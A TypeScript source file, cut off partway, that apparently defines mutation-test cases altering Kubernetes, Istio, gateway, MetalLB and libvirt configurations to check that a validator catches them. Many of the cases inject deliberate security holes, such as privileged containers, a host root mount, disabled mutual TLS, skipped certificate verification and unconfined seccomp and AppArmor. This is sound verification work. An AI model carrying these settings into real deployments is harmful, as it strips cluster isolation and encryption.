import { FILTER_MUTATIONS, MANIFEST_MUTATIONS } from '../properties/mutations';
import { IN_ADD_ONS } from './add-ons';
import { ADOPTED } from './adopted';
import { AWAITED } from './awaited';
import { type Json, type Kind, lifted, locals, objectGone, objects, removed, replaced, resources } from './outputs';
import { SAID_TWICE } from './twice';
import { IN_WINDOWS } from './windows';

const set = (target: Json, value: Json): boolean => target !== undefined && Object.assign(target, value) === target;

const isType =
  (type: string | undefined) =>
  ({ spec }: Json): boolean =>
    spec.type === type && spec.clusterIP === undefined;
const [inside, outside] = [isType(undefined), isType('LoadBalancer')];
const isHeadless = ({ spec }: Json): boolean => spec.clusterIP === 'None' && !spec.selector;
const isOfMembers = ({ spec }: Json): boolean => spec.clusterIP === 'None' && spec.selector;

const services = (which: (object: Json) => boolean, edit: (spec: Json, object: Json) => Json): Kind =>
  objects('Service', (object) => which(object) && edit(object.spec, object));

/** Where controllers keep the description of their pods. */
const TEMPLATES: Readonly<Record<string, (spec: Json) => Json>> = {
  Deployment: ({ template }) => template,
  StatefulSet: ({ template }) => template,
  DaemonSet: ({ template }) => template,
  Job: ({ template }) => template,
  CronJob: ({ jobTemplate }) => jobTemplate.spec.template,
};

/** Mistakes in controllers of every kind. */
const controllers =
  (make: (kind: string) => Kind): Kind =>
  (outputs) =>
    Object.keys(TEMPLATES).flatMap((kind) => make(kind)(outputs));

const pod = (edit: (template: Json) => Json): Kind => controllers((kind) => objects(kind, ({ spec }) => edit(TEMPLATES[kind]?.(spec))));

/** Mistakes in the containers of pods, one after the other: in those that run together, and in those that start before. */
const inContainers =
  (edit: (container: Json) => Json): Kind =>
  (outputs) =>
    [0, 1].flatMap((index) =>
      ['containers', 'initContainers'].flatMap((list) =>
        pod(({ spec }) => (spec[list]?.[index] === undefined ? false : edit(spec[list][index])))(outputs),
      ),
    );

/** The first variable that has a value, or something else. */
const ofSort = (env: Json, sort: string): Json => env?.find((each: Json) => each[sort] !== undefined);

const card = (edit: (card: Json) => boolean): Kind => resources('libvirt_domain', ({ devices }) => edit(devices.interfaces[0]));

/** What stands at a domain of others puts no filter before its cards. */
const filteredCard = (edit: (card: Json) => boolean): Kind => card((nic) => nic.filter_ref !== undefined && edit(nic));

/** Of machines with several network cards. */
const cardsOf = (edit: (devices: Json) => boolean): Kind =>
  resources('libvirt_domain', ({ devices }) => devices.interfaces.length > 1 && edit(devices));

const swapped = (key: string): Kind =>
  cardsOf(({ interfaces: [one, other] }) => {
    const [mine, theirs] = [one[key], other[key]];
    return set(one, { [key]: theirs }) && set(other, { [key]: mine });
  });

const next = (port: string): string => `${Number(port) + 1}`;

/** How proxies call single ports. */
const settings = (edit: (port: Json) => Json): Kind =>
  objects('DestinationRule', ({ spec }) => (spec.trafficPolicy.portLevelSettings ?? []).some(edit));

const IN_SERVICES: Readonly<Record<string, Kind>> = {
  'the Service of pods is gone': objectGone('Service', inside),
  'the Service of pods selects others': services(inside, ({ selector }) => set(selector, { 'app.kubernetes.io/name': 'someone-else' })),
  'the Service of pods has another port': services(inside, ({ ports }) => set(ports[0], { port: ports[0].port + 1 })),
  'the Service of pods leads to another port': services(inside, ({ ports }) => set(ports[0], { targetPort: ports[0].targetPort + 1 })),
  'the Service of pods is steered by an annotation': services(inside, (_, { metadata }) =>
    set(metadata, { annotations: { 'tailscale.com/expose': 'true' } }),
  ),
  'the Service of pods is led through a proxy of others': services(inside, (_, { metadata }) =>
    set(metadata.labels, { 'istio.io/use-waypoint': 'other' }),
  ),
  'the Service of pods stands for a name elsewhere': services(inside, (spec) =>
    set(spec, { type: 'ExternalName', externalName: 'other.example' }),
  ),
  'the Service of pods has another protocol': services(inside, ({ ports }) => set(ports[0], { protocol: 'SCTP' })),
  'the Service for clients outside is gone': objectGone('Service', outside),
  'the Service for clients outside has another address': services(outside, (_, { metadata }) =>
    set(metadata.annotations, { 'metallb.io/loadBalancerIPs': '192.0.2.99' }),
  ),
  'the Service for clients outside has no address': services(outside, (_, { metadata }) =>
    set(metadata.annotations, { 'metallb.io/loadBalancerIPs': undefined }),
  ),
  'the Service for clients outside has another port': services(outside, ({ ports }) => set(ports[0], { port: ports[0].port + 1 })),
  'the Service for clients outside leads to another port': services(outside, ({ ports }) =>
    set(ports[0], { targetPort: ports[0].targetPort + 1 }),
  ),
  'the Service for clients outside selects others': services(outside, ({ selector }) => set(selector, { other: 'label' })),
  'the Service of pods is open to the outside': services(inside, (spec) => set(spec, { type: 'NodePort' })),
  'the Service of a machine is gone': objectGone('Service', isHeadless),
  'the Service of a machine has an address of the cluster': services(isHeadless, (spec) => set(spec, { clusterIP: undefined })),
  'the Service of a machine has another port': services(isHeadless, ({ ports }) => set(ports[0], { port: ports[0].port + 1 })),
  'the Service of members is gone': objectGone('Service', isOfMembers),
  'the Service of members selects others': services(isOfMembers, ({ selector }) =>
    set(selector, { 'app.kubernetes.io/name': 'someone-else' }),
  ),
  'the Service of members has an address of the cluster': services(isOfMembers, (spec) => set(spec, { clusterIP: undefined })),
  'the Service of members waits until they are ready': services(isOfMembers, (spec) => set(spec, { publishNotReadyAddresses: undefined })),
  'members have the names of another Service': objects('StatefulSet', ({ spec }) => set(spec, { serviceName: 'other' })),
  'the name of all standbys leads to one of them alone': objects(
    'EndpointSlice',
    ({ endpoints }) => endpoints.length > 1 && endpoints.splice(1, 1).length > 0,
  ),
  'the name of all standbys leads to their primary': objects(
    'EndpointSlice',
    ({ endpoints }) => endpoints.length > 1 && set(endpoints[1], { addresses: ['10.40.1.2'] }),
  ),
  'the EndpointSlice of a machine is gone': objectGone('EndpointSlice'),
  'the EndpointSlice of a machine is not ready': objects('EndpointSlice', ({ endpoints }) =>
    set(endpoints[0], { conditions: { ready: false } }),
  ),
  'the EndpointSlice of a machine has no endpoints': objects('EndpointSlice', (slice) => set(slice, { endpoints: [] })),
  'the EndpointSlice of a machine has another port': objects('EndpointSlice', ({ ports }) => set(ports[0], { port: ports[0].port + 1 })),
  'the EndpointSlice of a machine has a port of another name': objects('EndpointSlice', ({ ports }) => set(ports[0], { name: 'other' })),
  'the EndpointSlice of a machine is of another Service': objects('EndpointSlice', ({ metadata }) =>
    set(metadata.labels, { 'kubernetes.io/service-name': 'other' }),
  ),
};

const IN_PODS: Readonly<Record<string, Kind>> = {
  'pods are gone': controllers((kind) => objectGone(kind)),
  'pods have another label': pod(({ metadata }) => set(metadata.labels, { 'app.kubernetes.io/name': 'someone-else' })),
  'pods have no labels': pod((template) => set(template, { metadata: {} })),
  'pods have another account': pod(({ spec }) => set(spec, { serviceAccountName: 'someone-else' })),
  'pods use their node’s network': pod(({ spec }) => set(spec, { hostNetwork: true })),
  'pods have names of their own': pod(({ spec }) => set(spec, { hostAliases: [{ ip: '192.0.2.99', hostnames: ['database'] }] })),
  'pods ask another resolver': pod(({ spec }) => set(spec, { dnsConfig: { nameservers: ['192.0.2.99'] } })),
  'pods run as the proxies of the mesh': pod(({ spec }) => set(spec, { securityContext: { ...spec.securityContext, runAsUser: 1337 } })),
  'pods see the processes of their nodes': pod(({ spec }) => spec.hostPID === undefined && set(spec, { hostPID: true })),
  'pods see the files of their nodes': pod(({ spec }) =>
    set(spec, { volumes: [...(spec.volumes ?? []), { name: 'more', hostPath: { path: '/' } }] }),
  ),
  'containers have another image': inContainers((container) => set(container, { image: `${container.image}-other` })),
  'containers are taken from the node': inContainers((container) => set(container, { imagePullPolicy: 'IfNotPresent' })),
  'containers run another command': inContainers((container) => set(container, { command: ['sh', '-c', 'true'] })),
  'containers have another argument': inContainers((container) => set(container, { args: [...(container.args ?? []), '--other'] })),
  'containers start elsewhere': inContainers((container) => set(container, { workingDir: '/other' })),
  'containers listen at another port': inContainers(({ ports }) => set(ports?.[0], { containerPort: 9 })),
  'a variable has another value': inContainers(({ env }) => set(ofSort(env, 'value'), { value: 'other' })),
  'a variable takes another for its value': inContainers(({ env }) => set(ofSort(env, 'value'), { value: '$(OTHER)' })),
  'a variable is said once more': inContainers(({ env }) => env !== undefined && env.push({ ...env[0], value: 'other' }) > 0),
  'a variable is gone': inContainers(({ env }) => env !== undefined && env.pop() !== undefined),
  'variables come in another order': inContainers(({ env }) => env?.length > 1 && env.reverse() !== undefined),
  'a variable is of another Secret': inContainers(({ env }) =>
    set(env?.find((each: Json) => each.valueFrom?.secretKeyRef)?.valueFrom.secretKeyRef, { name: 'other' }),
  ),
  'a variable is another key of its Secret': inContainers(({ env }) =>
    set(env?.find((each: Json) => each.valueFrom?.secretKeyRef)?.valueFrom.secretKeyRef, { key: 'other' }),
  ),
  'all keys of a Secret are variables': inContainers((container) => set(container, { envFrom: [{ secretRef: { name: 'other' } }] })),
  'a volume shows up elsewhere': inContainers(({ volumeMounts }) => set(volumeMounts?.[0], { mountPath: '/other' })),
  'a volume can be written on': inContainers(({ volumeMounts }) =>
    set(
      volumeMounts?.find((each: Json) => each.readOnly),
      { readOnly: false },
    ),
  ),
  'containers ask for more': inContainers(({ resources }) => set(resources.requests, { memory: '9Ti' })),
  'containers may take all of a node': inContainers(({ resources }) => set(resources, { limits: undefined })),
  'containers are asked nothing': inContainers((container) => container.readinessProbe && set(container, { readinessProbe: undefined })),
  'containers are asked at another port': inContainers((container) => set(container.readinessProbe?.httpGet, { port: 9 })),
  'containers are asked by a command': inContainers((container) =>
    set(container.readinessProbe, { httpGet: undefined, exec: { command: ['true'] } }),
  ),
  'a command is run when containers start': inContainers((container) =>
    set(container, { lifecycle: { ...container.lifecycle, postStart: { exec: { command: ['true'] } } } }),
  ),
  'containers may write on their image': inContainers(({ securityContext }) =>
    set(securityContext.readOnlyRootFilesystem && securityContext, { readOnlyRootFilesystem: false }),
  ),
  'containers keep their capabilities': inContainers(({ securityContext }) =>
    set(securityContext.capabilities && securityContext, { capabilities: undefined }),
  ),
  'containers have one capability more': inContainers(({ securityContext }) => set(securityContext.capabilities, { add: ['NET_RAW'] })),
  'containers may become more than they are': inContainers(({ securityContext }) =>
    set(securityContext.allowPrivilegeEscalation === false && securityContext, { allowPrivilegeEscalation: undefined }),
  ),
  'pods have a container more': pod(({ spec }) => set(spec, { containers: [...spec.containers, { name: 'other', image: 'other:1' }] })),
  'pods have a container more, which runs first': pod(({ spec }) =>
    set(spec, { initContainers: [...(spec.initContainers ?? []), { name: 'other', image: 'other:1' }] }),
  ),
  'pods have two containers of one name': pod(({ spec }) =>
    set(spec, { containers: [{ ...spec.containers[0], image: 'other:1' }, ...spec.containers] }),
  ),
  'pods mount another Secret': pod(({ spec }) => set(spec.volumes?.find((each: Json) => each.secret)?.secret, { secretName: 'other' })),
  'pods have a file of another Secret': pod(({ spec }) =>
    set(spec.volumes?.flatMap((each: Json) => each.projected?.sources ?? []).find((each: Json) => each.secret)?.secret, { name: 'other' }),
  ),
  'pods have the data of other pods': pod(({ spec }) =>
    set(spec.volumes?.find((each: Json) => each.persistentVolumeClaim)?.persistentVolumeClaim, { claimName: 'other' }),
  ),
  'pods have a volume more': pod(({ spec }) =>
    set(spec, { volumes: [...(spec.volumes ?? []), { name: 'more', secret: { secretName: 'other' } }] }),
  ),
  'pods run as root': pod(({ spec }) => set(spec.securityContext.runAsUser && spec.securityContext, { runAsUser: 0 })),
  'pods may call whatever the kernel has': pod(({ spec }) => set(spec.securityContext.seccompProfile, { type: 'Unconfined' })),
  'pods share their processes': pod(({ spec }) => set(spec, { shareProcessNamespace: true })),
  'pods are pulled with another Secret': pod(({ spec }) => set(spec, { imagePullSecrets: [{ name: 'other' }] })),
  'pods end sooner': pod(({ spec }) => set(spec, { terminationGracePeriodSeconds: 1 })),
  'pods are told of all Services': pod(({ spec }) => set(spec, { enableServiceLinks: undefined })),
  'pods put up with every taint': pod(({ spec }) => set(spec, { tolerations: [{ operator: 'Exists' }] })),
  'pods run on chosen nodes': pod(({ spec }) => set(spec, { nodeSelector: { ...spec.nodeSelector, other: 'label' } })),
  'pods come before all others': pod(({ spec }) => set(spec, { priorityClassName: 'system-node-critical' })),
  'pods are made by another runtime': pod(({ spec }) => set(spec, { runtimeClassName: 'other' })),
  'pods are excused from AppArmor': pod(({ metadata, spec }) =>
    set(metadata, {
      annotations: {
        ...metadata.annotations,
        [`container.apparmor.security.beta.kubernetes.io/${spec.containers[0].name}`]: 'unconfined',
      },
    }),
  ),
  'there are more pods': objects('Deployment', ({ spec }) => spec.replicas !== undefined && set(spec, { replicas: spec.replicas + 1 })),
  'pods are replaced all at once': objects('Deployment', ({ spec }) => set(spec, { strategy: { type: 'Recreate' } })),
  'pods are replaced at another pace': objects(
    'Deployment',
    ({ spec }) => spec.strategy?.rollingUpdate !== undefined && set(spec.strategy.rollingUpdate, { maxUnavailable: '90%' }),
  ),
  'no more pods are made': objects('Deployment', ({ spec }) => set(spec, { paused: true })),
  'a controller takes others for its pods': controllers((kind) =>
    objects(kind, ({ spec }) => spec.selector !== undefined && set(spec.selector, { matchLabels: { other: 'label' } })),
  ),
  'a job runs more often': objects('Job', ({ spec }) => set(spec, { completions: 9, parallelism: 9 })),
  'a job is tried without end': objects('Job', ({ spec }) => set(spec, { backoffLimit: 1000 })),
  'a job runs at another time': objects('CronJob', ({ spec }) => set(spec, { schedule: '* * * * *' })),
  'a job runs beside itself': objects('CronJob', ({ spec }) => set(spec, { concurrencyPolicy: 'Allow' })),
  'a job runs no more': objects('CronJob', ({ spec }) => set(spec, { suspend: true })),
  'a node may not be drained': objects('PodDisruptionBudget', ({ spec }) => set(spec, { maxUnavailable: 0, minAvailable: undefined })),
  'the budget of pods is gone': objectGone('PodDisruptionBudget'),
  'a claim has another class': objects('PersistentVolumeClaim', ({ spec }) => set(spec, { storageClassName: 'other' })),
  'a claim has the volume of others': objects('PersistentVolumeClaim', ({ spec }) => set(spec, { volumeName: 'other' })),
  'a claim is gone': objectGone('PersistentVolumeClaim'),
  'a file of pods has another text': objects(
    'ConfigMap',
    ({ metadata, data }) => metadata.labels['isthmus/files-of'] !== undefined && set(data, { other: 'text' }),
  ),
  'an account is gone': objectGone('ServiceAccount'),
  'an account has a role in a cloud': objects('ServiceAccount', ({ metadata }) =>
    set(metadata, { annotations: { 'eks.amazonaws.com/role-arn': 'other' } }),
  ),
  'pods are root on their nodes': pod(({ spec }) => set(spec.containers[0], { securityContext: { privileged: true } })),
  'pods are in another namespace': controllers((kind) => objects(kind, ({ metadata }) => set(metadata, { namespace: 'other' }))),
  'pods are kept out of the mesh': pod(
    ({ metadata, spec }) =>
      spec.serviceAccountName !== undefined &&
      set(metadata.labels, { 'sidecar.istio.io/inject': 'false', 'istio.io/dataplane-mode': 'none' }),
  ),
  'a namespace is in no mesh': objects(
    'Namespace',
    ({ metadata }) =>
      (metadata.labels['istio.io/dataplane-mode'] || metadata.labels['istio-injection'] || metadata.labels['istio.io/rev']) !== undefined &&
      set(metadata, { labels: {} }),
  ),
  'strict mutual TLS is gone': objectGone('PeerAuthentication', ({ spec }) => spec.mtls?.mode === 'STRICT' && !spec.selector),
  'a Sidecar is for other pods': objects('Sidecar', ({ spec }) => set(spec.workloadSelector, { labels: { other: 'label' } })),
  'a Sidecar has hosts of a whole namespace': objects('Sidecar', ({ metadata, spec }) =>
    set(spec.egress[0], { hosts: [...spec.egress[0].hosts, `${metadata.namespace}/*`] }),
  ),
  'a Sidecar lets through to everybody': objects(
    'Sidecar',
    ({ spec }) => spec.outboundTrafficPolicy !== undefined && set(spec, { outboundTrafficPolicy: undefined }),
  ),
  'a Sidecar lets through to Services alone': objects(
    'Sidecar',
    ({ spec }) => spec.outboundTrafficPolicy === undefined && set(spec, { outboundTrafficPolicy: { mode: 'REGISTRY_ONLY' } }),
  ),
  'a ServiceEntry is gone': objectGone('ServiceEntry'),
  'a ServiceEntry is for another host': objects('ServiceEntry', ({ spec }) => set(spec, { hosts: ['other.example'] })),
  'a ServiceEntry is for another host, too': objects('ServiceEntry', ({ spec }) => set(spec, { hosts: [...spec.hosts, 'other.example'] })),
  'a ServiceEntry has another port': objects('ServiceEntry', ({ spec }) => set(spec.ports[0], { number: 8443 })),
  'a ServiceEntry has a port of another protocol': objects('ServiceEntry', ({ spec }) => set(spec.ports[0], { protocol: 'MONGO' })),
  'a ServiceEntry leads to whatever address is dialled': objects(
    'ServiceEntry',
    ({ spec }) => spec.resolution === 'DNS' && set(spec, { resolution: 'NONE' }),
  ),
  'a ServiceEntry leads elsewhere': objects('ServiceEntry', ({ spec }) => set(spec, { endpoints: [{ address: '192.0.2.99' }] })),
  'a ServiceEntry has other addresses': objects(
    'ServiceEntry',
    ({ spec }) => spec.addresses !== undefined && set(spec, { addresses: ['0.0.0.0/0'] }),
  ),
  'a ServiceEntry is for every namespace': objects('ServiceEntry', ({ spec }) => set(spec, { exportTo: undefined })),
  'a ServiceEntry is told of to all': objects('ServiceEntry', ({ metadata }) => set(metadata, { namespace: 'istio-system' })),
  'a DestinationRule is for another host': objects('DestinationRule', ({ spec }) => set(spec, { host: 'other.example' })),
  'a DestinationRule has subsets': objects('DestinationRule', ({ spec }) => set(spec, { subsets: [{ name: 'other' }] })),
  'a DestinationRule is for chosen pods': objects(
    'DestinationRule',
    ({ spec }) => spec.workloadSelector === undefined && set(spec, { workloadSelector: { matchLabels: { app: 'other' } } }),
  ),
  'a DestinationRule is for all pods': objects(
    'DestinationRule',
    ({ spec }) => spec.workloadSelector !== undefined && delete spec.workloadSelector,
  ),
  'a DestinationRule is told of to all': objects('DestinationRule', ({ spec }) => spec.exportTo !== undefined && delete spec.exportTo),
  'a DestinationRule has no port': settings((port) => set(port.port, { number: port.port.number + 1 })),
  'TLS to a server is not begun': settings((port) => port.tls?.mode === 'SIMPLE' && set(port, { tls: { mode: 'DISABLE' } })),
  'a server may show any name': settings((port) => port.tls?.mode === 'SIMPLE' && delete port.tls.subjectAltNames),
  'a server is asked for another name': settings((port) => port.tls?.mode === 'SIMPLE' && set(port.tls, { sni: 'other.example' })),
  'a server may be signed by whomever a file says': settings(
    (port) => port.tls?.caCertificates !== undefined && set(port.tls, { caCertificates: '/tmp/ca.pem' }),
  ),
  'a server may be signed by anybody': settings((port) => port.tls?.credentialName !== undefined && delete port.tls.credentialName),
  'a server is not asked who signs': settings((port) => port.tls?.mode === 'SIMPLE' && set(port.tls, { insecureSkipVerify: true })),
  'more connections are opened': settings(
    (port) => port.connectionPool?.tcp !== undefined && set(port.connectionPool.tcp, { maxConnections: 9999 }),
  ),
  'more requests are made again at once': settings(
    (port) => port.connectionPool?.http !== undefined && set(port.connectionPool.http, { maxRetries: 9999 }),
  ),
  'who fails gets requests all the same': settings((port) => port.outlierDetection !== undefined && delete port.outlierDetection),
  'who fails gets requests sooner': settings(
    (port) => port.outlierDetection !== undefined && set(port.outlierDetection, { baseEjectionTime: '1s' }),
  ),
  'a VirtualService is for another host': objects('VirtualService', ({ spec }) => set(spec, { hosts: ['other.example'] })),
  'a VirtualService is for another host, too': objects('VirtualService', ({ spec }) =>
    set(spec, { hosts: [...spec.hosts, 'other.example'] }),
  ),
  'a VirtualService leads elsewhere': objects('VirtualService', ({ spec }) =>
    set(spec.http[0].route[0].destination, { host: 'other.example' }),
  ),
  'a VirtualService is for gateways': objects('VirtualService', ({ spec }) => set(spec, { gateways: ['istio-system/entry'] })),
  'requests are made again at any answer': objects('VirtualService', ({ spec }) =>
    set(spec.http[0].retries, { attempts: 5, retryOn: '5xx' }),
  ),
  'requests of all methods are made again': objects(
    'VirtualService',
    ({ spec }) => spec.http[0].match[0].method !== undefined && delete spec.http[0].match[0].method,
  ),
  'requests may take for ever': objects('VirtualService', ({ spec }) => spec.http[0].timeout !== undefined && delete spec.http[0].timeout),
  'who answers for what moves gets another share': objects('VirtualService', ({ spec }) => {
    const [first, second] = spec.http[0].route;
    return second !== undefined && set(first, { weight: first.weight + 7 });
  }),
  'requests for what moves go to somebody else': objects('VirtualService', ({ spec }) => {
    const [first, second] = spec.http[0].route;
    return second !== undefined && set(first.destination, { host: second.destination.host });
  }),
  'what moves is shared at another port': objects(
    'VirtualService',
    ({ spec }) => spec.http[0].route.length > 1 && set(spec.http[0].match[0], { port: spec.http[0].match[0].port + 1 }),
  ),
  'requests to a machine are not read': objects(
    'Service',
    (object) => isHeadless(object) && object.spec.ports[0].appProtocol === 'http' && set(object.spec.ports[0], { appProtocol: 'tcp' }),
  ),
  'mutual TLS is off': objects('PeerAuthentication', (object) => set(object.spec, { mtls: { mode: 'DISABLE' } })),
};

const AROUND_PODS: Readonly<Record<string, Kind>> = {
  'a namespace is gone': objectGone('Namespace'),
  'a namespace admits every pod': objects('Namespace', ({ metadata }) =>
    set(metadata.labels, { 'pod-security.kubernetes.io/enforce': 'privileged' }),
  ),
  'a namespace enforces nothing': objects('Namespace', ({ metadata }) =>
    set(metadata.labels, { 'pod-security.kubernetes.io/enforce': undefined }),
  ),
  'a namespace holds pods to what was': objects('Namespace', ({ metadata }) =>
    set(metadata.labels, { 'pod-security.kubernetes.io/enforce-version': 'v1.20' }),
  ),
  'a quota is gone': objectGone('ResourceQuota'),
  'a quota is larger': objects('ResourceQuota', ({ spec }) => set(spec.hard, { pods: '99' })),
  'a quota lacks an amount': objects('ResourceQuota', ({ spec }) => set(spec.hard, { 'requests.memory': undefined })),
  'limits are gone': objectGone('LimitRange'),
  'limits are others': objects('LimitRange', ({ spec }) => set(spec.limits[0].default, { memory: '9Gi' })),
  'a Secret is not made': objectGone('ExternalSecret'),
  'a Secret comes out of another store': objects('ExternalSecret', ({ spec }) => set(spec.secretStoreRef, { name: 'other' })),
  'a Secret has another value': objects('ExternalSecret', ({ spec }) => set(spec.data[0].remoteRef, { key: 'other' })),
  'a Secret has another key': objects('ExternalSecret', ({ spec }) => set(spec.data[0], { secretKey: 'other' })),
  'what a server exports is not there': objectGone('PersistentVolume'),
  'another server is mounted': objects('PersistentVolume', ({ spec }) => set(spec.nfs, { server: '192.0.2.99' })),
  'another path is mounted': objects('PersistentVolume', ({ spec }) => set(spec.nfs, { path: '/' })),
  'what a server exports is for any claim': objects('PersistentVolume', ({ spec }) => set(spec, { claimRef: undefined })),
};

const ROUTES: Readonly<Record<string, Kind>> = {
  'a route is for other methods': objects('HTTPRoute', ({ spec }) => set(spec.rules[0].matches[0], { method: 'DELETE' })),
  'a route has another weight': objects('HTTPRoute', ({ spec }) => {
    const [first, second] = spec.rules[0].backendRefs ?? [];
    return second !== undefined && set(first, { weight: first.weight + 7 });
  }),
  'a route lacks a step on the way': objects('HTTPRoute', ({ spec }) => spec.rules[0].filters?.pop() !== undefined),
  'a route is at all listeners': objects(
    'HTTPRoute',
    ({ spec }) => spec.parentRefs[0].sectionName !== undefined && set(spec.parentRefs[0], { sectionName: undefined }),
  ),
  'a route is for plain HTTP, too': objects('HTTPRoute', ({ metadata }) => {
    const { annotations = {} } = metadata;
    return annotations['konghq.com/protocols'] !== undefined && set(annotations, { 'konghq.com/protocols': 'http,https' });
  }),
  'a rule beside the rules of a route': objects(
    'HTTPRoute',
    ({ spec }) => spec.rules.push({ backendRefs: [{ name: 'other', port: 1 }] }) > 0,
  ),
  'a gateway listens for every host name': objects('Gateway', ({ spec }) => {
    const listener = spec.listeners.find((each: Json) => each.hostname !== undefined);
    return listener !== undefined && set(listener, { hostname: undefined });
  }),
  'a load balancer tells a gateway nothing of its clients': replaced(/ send-proxy-v2 check-send-proxy/, ''),
  'a route for calls is gone': objectGone('GRPCRoute'),
  'a route for calls is for other calls': objects('GRPCRoute', ({ spec }) =>
    set(spec.rules[0].matches[0].method, { service: 'other.Service' }),
  ),
  'a plug-in is gone': objectGone('KongPlugin'),
  'a plug-in is switched off': objects('KongPlugin', (plugin) => set(plugin, { disabled: true })),
  'a plug-in does something else': objects('KongPlugin', ({ config }) => set(config, { anonymous: 'guest' })),
  'a client has another key': objects('KongConsumer', (consumer) => set(consumer, { credentials: ['other'] })),
  'a policy asks nobody for keys': objects(
    'SecurityPolicy',
    ({ spec }) => spec.apiKeyAuth !== undefined && set(spec, { apiKeyAuth: undefined }),
  ),
  'a limit is higher': objects('BackendTrafficPolicy', ({ spec }) => set(spec.rateLimit.local.rules[0].limit, { requests: 1000000 })),
  'proxies are reached past their address': objects('EnvoyProxy', ({ spec }) =>
    set(spec.provider.kubernetes.envoyService, { type: 'LoadBalancer' }),
  ),
  'proxies are started with more': objects('EnvoyProxy', ({ spec }) => set(spec, { bootstrap: { type: 'Merge', value: '{}' } })),
  'a gateway ends no TLS': objects('Gateway', ({ spec }) => {
    const listener = spec.listeners.find(({ tls }: Json) => tls !== undefined);
    return listener !== undefined && set(listener.tls, { mode: 'Passthrough' });
  }),
  'a gateway has the certificate of others': objects('Gateway', ({ spec }) => {
    const listener = spec.listeners.find(({ tls }: Json) => tls !== undefined);
    return listener !== undefined && set(listener.tls.certificateRefs[0], { namespace: 'other' });
  }),
  'a gateway says what nobody reads': objects('Gateway', ({ spec }) => set(spec, { addresses: [{ value: '192.0.2.99' }] })),
  'a route belongs to a gateway of another namespace': objects('HTTPRoute', ({ spec }) => set(spec.parentRefs[0], { namespace: 'other' })),
  'a route leads on what is meant for a Service': objects('HTTPRoute', ({ spec }) =>
    set(spec.parentRefs[0], { group: '', kind: 'Service' }),
  ),
  'a gateway has proxies of another sort': objects(
    'Gateway',
    ({ spec }) => spec.infrastructure !== undefined && set(spec.infrastructure.parametersRef, { name: 'other' }),
  ),
  'a certificate is for another host name': objects('Certificate', ({ spec }) => set(spec, { dnsNames: ['other.example'] })),
  'a certificate is not made': objectGone('Certificate'),
  'a route is gone': objectGone('HTTPRoute'),
  'a route leads to another Service': objects('HTTPRoute', ({ spec }) => set(spec.rules[0].backendRefs?.[0], { name: 'other' })),
  'a route leads to another namespace': objects('HTTPRoute', ({ spec }) => set(spec.rules[0].backendRefs?.[0], { namespace: 'other' })),
  'a route leads to nothing': objects('HTTPRoute', ({ spec }) => spec.rules[0].backendRefs && set(spec.rules[0], { backendRefs: [] })),
  'a route is of another gateway': objects('HTTPRoute', ({ spec }) => set(spec.parentRefs[0], { name: 'other' })),
  'a route leads to another port': objects('HTTPRoute', ({ spec }) => {
    const [backend] = spec.rules[0].backendRefs ?? [];
    return set(backend, { port: backend?.port + 1 });
  }),
  'a route has another path': objects('HTTPRoute', ({ spec }) => set(spec.rules[0].matches[0].path, { value: '/other' })),
  'a route is for all hosts': objects('HTTPRoute', ({ spec }) => spec.hostnames !== undefined && set(spec, { hostnames: undefined })),
  'a machine behind what moves is found without an address of the cluster': objects(
    'Service',
    ({ metadata, spec }) => metadata.name === 'stock-items-erp' && set(spec, { clusterIP: 'None' }),
  ),
  'a machine behind what moves is another': objects(
    'EndpointSlice',
    ({ metadata, endpoints }) => metadata.name === 'stock-items-erp' && set(endpoints[0], { addresses: ['192.0.2.9'] }),
  ),
  'a machine behind what moves has another port': objects('EndpointSlice', ({ metadata, ports }) => {
    const [port] = ports;
    return metadata.name === 'stock-items-erp' && set(port, { port: port.port + 1 });
  }),
  'what moves is not said to speak HTTP': objects(
    'Service',
    ({ metadata, spec }) => metadata.name === 'stock-items' && set(spec.ports[0], { appProtocol: 'tcp' }),
  ),
  'what moves leads somewhere by itself': objects(
    'Service',
    ({ metadata, spec }) => metadata.name === 'stock-items' && set(spec, { selector: { 'app.kubernetes.io/name': 'stock' } }),
  ),
  'the name of what moves is not there': objectGone('Service', ({ metadata }) => metadata.name === 'stock-items'),
  'a gateway is gone': objectGone('Gateway'),
  'a gateway is of another class': objects('Gateway', ({ spec }) => set(spec, { gatewayClassName: 'other' })),
  'a gateway listens at another port': objects('Gateway', ({ spec }) => set(spec.listeners[0], { port: spec.listeners[0].port + 1 })),
  'a gateway lacks a listener': objects('Gateway', ({ spec }) => spec.listeners.pop() !== undefined),
  'a gateway speaks plain HTTP': objects('Gateway', ({ spec }) => {
    const listener = spec.listeners.find((each: Json) => each.protocol === 'HTTPS');
    return listener !== undefined && set(listener, { protocol: 'HTTP', tls: undefined });
  }),
  'a gateway has another certificate': objects('Gateway', ({ spec }) => {
    const listener = spec.listeners.find((each: Json) => each.tls !== undefined);
    return listener !== undefined && set(listener.tls.certificateRefs[0], { name: 'other' });
  }),
  'a gateway takes routes of everyone': objects('Gateway', ({ spec }) =>
    set(spec.listeners[0], { allowedRoutes: { namespaces: { from: 'All' } } }),
  ),
  'a grant is gone': objectGone('ReferenceGrant'),
  'a grant is for another Service': objects('ReferenceGrant', ({ spec }) => set(spec.to[0], { name: 'other' })),
  'a grant is for all Services': objects('ReferenceGrant', ({ spec }) => set(spec.to[0], { name: undefined })),
  'a grant is for another namespace, too': objects('ReferenceGrant', ({ spec }) =>
    set(spec, { from: [...spec.from, { ...spec.from[0], namespace: 'other' }] }),
  ),
  'the pool of addresses is gone': objectGone('IPAddressPool'),
  'the pool has other addresses': objects('IPAddressPool', ({ spec }) => set(spec, { addresses: ['192.0.2.0/28'] })),
  'the pool is for everyone': objects('IPAddressPool', ({ spec }) => set(spec, { autoAssign: true, serviceAllocation: undefined })),
  'the pool is not announced': objectGone('L2Advertisement'),
  'another pool is announced': objects('L2Advertisement', ({ spec }) => set(spec, { ipAddressPools: ['other'] })),
};

const ON_HOSTS: Readonly<Record<string, Kind>> = {
  'a machine is gone': (outputs) =>
    Object.entries(outputs.terraform).flatMap(([file, stack]: [string, Json]) =>
      Object.keys(stack.resource.libvirt_domain).map((name) => {
        const { [name]: _, ...others } = stack.resource.libvirt_domain;
        const changed = { ...stack, resource: { ...stack.resource, libvirt_domain: others } };
        return { place: name, outputs: { ...outputs, terraform: { ...outputs.terraform, [file]: changed } } };
      }),
    ),
  'a card has no filter': filteredCard((nic) => set(nic, { filter_ref: undefined })),
  'a card has a filter that is not there': filteredCard((nic) => set(nic, { filter_ref: { filter: 'other' } })),
  'a card has another Ethernet address': card((nic) => set(nic, { mac: { address: '52:54:00:00:00:01' } })),
